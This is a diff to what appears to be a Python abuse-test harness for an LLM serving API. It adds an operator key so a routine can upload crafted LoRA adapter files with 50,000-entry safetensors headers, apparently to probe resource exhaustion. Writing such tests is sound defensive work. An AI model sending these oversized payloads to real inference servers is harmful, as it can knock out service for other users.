@@ -15,14 +15,14 @@ from urllib.parse import urlsplit
 import httpx
 
 SECONDS = 10.0
-USER, ATTACKER = "user", "attacker"  # API keys
+USER, ATTACKER, OPERATOR = "user", "attacker", "operator"  # API keys
 HELLO = [{"role": "user", "content": "hello"}]
 
 
-def post(url: str, path: str, body: bytes) -> None:
+def post(url: str, path: str, body: bytes, key: str = ATTACKER) -> None:
     """Send a body and read the whole answer, for at most SECONDS."""
     with contextlib.suppress(httpx.HTTPError):
-        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {ATTACKER}"}
+        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {key}"}
         httpx.post(url + path, content=body, headers=headers, timeout=SECONDS)
 
 
@@ -108,7 +108,7 @@ def loads(url: str) -> None:
             header = json.dumps({f"base_model.model.m{i}.lora_A.weight": one for i in range(50_000)}).encode()
             data = len(header).to_bytes(8, "little") + header + b"\0" * 4
             (path / "adapter_model.safetensors").write_bytes(data)
-        post(url, "/v1/load_lora_adapter", body(lora_name=f"a{number}", lora_path=str(path)))
+        post(url, "/v1/load_lora_adapter", body(lora_name=f"a{number}", lora_path=str(path)), OPERATOR)
 
 
 ADAPTERS = "quire-abuse-adapters"
